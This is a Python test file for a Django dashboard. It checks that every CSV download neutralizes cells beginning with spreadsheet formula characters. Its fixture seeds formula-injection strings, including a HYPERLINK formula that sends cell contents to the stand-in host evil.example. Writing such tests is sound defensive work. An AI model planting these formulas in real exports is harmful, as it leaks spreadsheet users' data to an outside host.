"""Every CSV a person downloads from the dashboard is written by the one formula-safe
writer (runtime.csv_writer): no cell starts a spreadsheet formula."""

import csv
import io
from datetime import date

import pytest
from django.test import Client

from access.roles import Role
from dashboard.charts import CHARTS
from disposal.carriers import register_carrier
from disposal.models import CarrierKind, Processor
from disposal.processors import save_processor
from leads import services
from leads.models import CaptureMethod
from runtime.csv_writer import FORMULA_STARTS
from tests.url_walk import fill as _fill
from tests.url_walk import routes as _routes

pytestmark = pytest.mark.django_db(databases="__all__")

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1)', "+SUM(1,2)", "-2+3", "@cmd", "\tx=1"]


def _dashboard_urls(customer_id) -> list[str]:
    """Every dashboard route, walked from the URLconf; a chart route once per chart."""
    urls = []
    for route in _routes("dashboard"):
        if "<slug:slug>" in route:
            urls += [_fill(route.replace("<slug:slug>", slug), customer_id) for slug in CHARTS]
        else:
            urls.append(_fill(route, customer_id))
    return urls


@pytest.fixture
def formula_data():
    for text in (text for text in FORMULAS if "@" not in text):  # "@" is refused there
        register_carrier(kind=CarrierKind.BACKUP_MEDIUM, label=text, location=text, actor="staff:1")
    save_processor(
        processor=Processor(
            name=FORMULAS[0],
            agreement_reference=FORMULAS[1],
            agreement_signed_on=date(2024, 1, 1),
            categories=["profile"],
            webhook_url="https://postco.example/hook",
        ),
        webhook_secret="s3cret",
    )
    services.capture_lead(
        contact={"email": "formula@example.org"},
        purposes=["analytics"],
        source=FORMULAS[3],
        method=CaptureMethod.IMPORT,
        channel=FORMULAS[3],
        actor="staff:1",
    )


def test_no_cell_of_any_csv_download_starts_a_formula(make_staff, formula_data, customer):
    """Every dashboard page is asked for by every role; whatever answers CSV is checked,
    so a CSV view added later is covered without naming it here."""
    downloads: dict[str, str] = {}
    for role in Role:
        client = Client()
        client.force_login(make_staff(role), backend="django.contrib.auth.backends.ModelBackend")
        for url in _dashboard_urls(customer.pk):
            response = client.get(url)
            if response.status_code == 200 and response["Content-Type"].startswith("text/csv"):
                assert "no-store" in response["Cache-Control"], url
                body = (
                    b"".join(response.streaming_content) if response.streaming else response.content
                )
                downloads[url] = body.decode()
    assert "/dashboard/privacy/records.csv" in downloads
    assert "/dashboard/privacy/access.csv" in downloads
    assert {f"/dashboard/metrics/{slug}.csv" for slug in CHARTS} <= set(downloads)
    for url, text in downloads.items():
        for row in csv.reader(io.StringIO(text)):
            starts = [cell for cell in row if cell.startswith(FORMULA_STARTS)]
            assert not starts, (url, starts)
    # The hostile values did reach the files, neutralized (carrier labels, processor names
    # and agreements in the records of processing; the lead source in its chart).
    seen = "".join(downloads.values())
    for start in ("'=HYPERLINK", "'+SUM(1,2)", "'-2+3", "'@cmd"):
        assert start in seen


def test_the_writer_neutralizes_every_formula_start_and_keeps_numbers():
    from runtime.csv_writer import formula_safe_writer

    out = io.StringIO()
    formula_safe_writer(out).writerow(["=1", "+1", "-1", "@x", "\tx", "\rx", "plain", -5, 2.5])
    row = next(csv.reader(io.StringIO(out.getvalue())))
    assert row == ["'=1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "plain", "-5", "2.5"]
